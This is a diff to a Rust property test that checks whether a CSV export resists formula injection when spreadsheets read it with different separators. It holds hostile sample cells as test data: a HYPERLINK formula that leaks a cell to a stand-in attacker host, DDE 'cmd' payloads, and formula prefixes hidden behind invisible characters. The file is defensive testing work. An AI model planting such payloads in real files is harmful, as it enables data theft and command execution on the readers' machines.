@@ -1,17 +1,21 @@
 //! Exports a spreadsheet opens cannot attack it (OWASP "CSV Injection"): hostile replies,
-//! generated, exported to CSV, and every cell read back as Excel reads it.
+//! generated, exported to CSV, and every cell read back as spreadsheets read it — Excel with `,`
+//! or `;` as its list separator, an import splitting on tabs, and a reader that splits on any
+//! separator without unquoting — with white space and invisible characters before a formula.
 
 use proptest::prelude::*;
 use reply_core::export::{csv, figures_json};
 use reply_core::outline::Outline;
 use reply_core::parse;
 
-/// The cells of a CSV text (RFC 4180: quoted cells, doubled quotes, CRLF rows).
-fn cells(text: &str) -> Vec<Vec<String>> {
+/// The cells of a CSV text as Excel reads it with `sep` as its list separator: a quote opens a
+/// quoted part only at a cell's start (elsewhere it is a character), `""` inside is a quote,
+/// text after the closing quote is appended; rows end at a line feed (a CR before it dropped).
+fn cells(text: &str, sep: char) -> Vec<Vec<String>> {
     let mut rows = Vec::new();
     let mut row = Vec::new();
     let mut cell = String::new();
-    let mut quoted = false;
+    let (mut quoted, mut fresh) = (false, true);
     let mut chars = text.trim_start_matches('\u{feff}').chars().peekable();
     while let Some(c) = chars.next() {
         if quoted {
@@ -26,15 +30,16 @@ fn cells(text: &str) -> Vec<Vec<String>> {
             continue;
         }
         match c {
-            '"' => quoted = true,
-            ',' => row.push(std::mem::take(&mut cell)),
-            '\r' if chars.peek() == Some(&'\n') => {
-                chars.next();
+            '"' if fresh => quoted = true,
+            c if c == sep => row.push(std::mem::take(&mut cell)),
+            '\r' if chars.peek() == Some(&'\n') => continue,
+            '\n' => {
                 row.push(std::mem::take(&mut cell));
                 rows.push(std::mem::take(&mut row));
             }
             _ => cell.push(c),
         }
+        fresh = c == sep || c == '\n';
     }
     if !cell.is_empty() || !row.is_empty() {
         row.push(cell);
@@ -43,13 +48,27 @@ fn cells(text: &str) -> Vec<Vec<String>> {
     rows
 }
 
-/// What Excel, WPS and LibreOffice evaluate: a cell whose first character, leading spaces
-/// skipped, is = + - @, a tab or a carriage return (DDE payloads start the same way).
-fn evaluated(cell: &str) -> bool {
-    matches!(cell.trim_start_matches(' ').chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r'))
+/// The pieces of a CSV text for a reader that splits on every separator (`,` `;` tab CR LF)
+/// and never unquotes.
+fn pieces(text: &str) -> Vec<String> {
+    text.split([',', ';', '\t', '\r', '\n']).map(str::to_string).collect()
 }
 
-/// Replies in the genre whose clauses start with what spreadsheets evaluate.
+/// Characters that show nothing (a subset of what the export skips).
+fn invisible(c: char) -> bool {
+    matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2064}' | '\u{feff}')
+}
+
+/// What Excel, WPS and LibreOffice evaluate: a cell whose first character — after white space,
+/// invisible characters and (for a reader that does not unquote) quotes — is = + - @, a tab or
+/// a carriage return (DDE payloads start the same way).
+fn evaluated(cell: &str) -> bool {
+    let skipped = |c: char| c != '\t' && c != '\r' && (c.is_whitespace() || invisible(c) || c == '"');
+    matches!(cell.chars().find(|&c| !skipped(c)), Some('=' | '+' | '-' | '@' | '\t' | '\r'))
+}
+
+/// Replies in the genre whose clauses and headings start, or hold after a separator, what
+/// spreadsheets evaluate, hidden behind spaces and invisible characters.
 fn hostile() -> impl Strategy<Value = String> {
     let piece = prop_oneof![
         Just("=HYPERLINK(\"http://evil.example/?\"&B2,\"点击查看详情\")".to_string()),
@@ -59,6 +78,17 @@ fn hostile() -> impl Strategy<Value = String> {
         Just("=1+1".to_string()),
         Just("\t=1".to_string()),
         Just("  =A1".to_string()),
+        Just(";=cmd|' /C calc'!A0".to_string()),
+        Just("\n一、总体情况;=cmd|' /C calc'!A0\n".to_string()),
+        Just("\n（一）分项情况\t=1+2\n".to_string()),
+        Just(",@SUM(1)".to_string()),
+        Just(";\"=1\"".to_string()),
+        Just("\u{feff}=1".to_string()),
+        Just("；\u{200b}+1".to_string()),
+        Just("\u{2060}".to_string()),
+        Just("\u{200e}".to_string()),
+        Just("\u{3000}".to_string()),
+        "[\u{200b}-\u{200f}\u{2060}\u{feff};,\t =+@\"-]{1,4}",
         Just("，".to_string()),
         Just("。".to_string()),
         Just("\n".to_string()),
@@ -80,12 +110,24 @@ proptest! {
         let r = parse(&text);
         let outline = Outline::new(&r);
         let all: Vec<usize> = (0..r.figures.len()).collect();
-        let rows = cells(&csv(&r, &outline, &all));
+        let out = csv(&r, &outline, &all);
+        let rows = cells(&out, ',');
         prop_assert_eq!(rows.len(), r.figures.len() + 1, "a header and a row per figure");
-        for row in &rows {
-            for c in row {
-                prop_assert!(!evaluated(c), "cell {:?} would be evaluated", c);
+        for sep in [',', ';', '\t'] {
+            for row in &cells(&out, sep) {
+                for c in row {
+                    prop_assert!(!evaluated(c), "cell {:?} would be evaluated (list separator {:?})", c, sep);
+                }
             }
+        }
+        for c in pieces(&out) {
+            prop_assert!(!evaluated(&c), "piece {:?} would be evaluated by a splitting reader", c);
+        }
+        // The text stays readable: the clause and the figure's text, the added ' aside.
+        let bare = |s: &str| s.replace('\'', "");
+        for (f, row) in r.figures.iter().zip(&rows[1..]) {
+            prop_assert_eq!(bare(&row[1]), bare(&f.text));
+            prop_assert_eq!(bare(&row[10]), bare(&f.context));
         }
         // The JSON export is data, not a spreadsheet: it keeps every clause exactly.
         let json: serde_json::Value = serde_json::from_str(&figures_json(&r, &outline, &all)).expect("JSON");
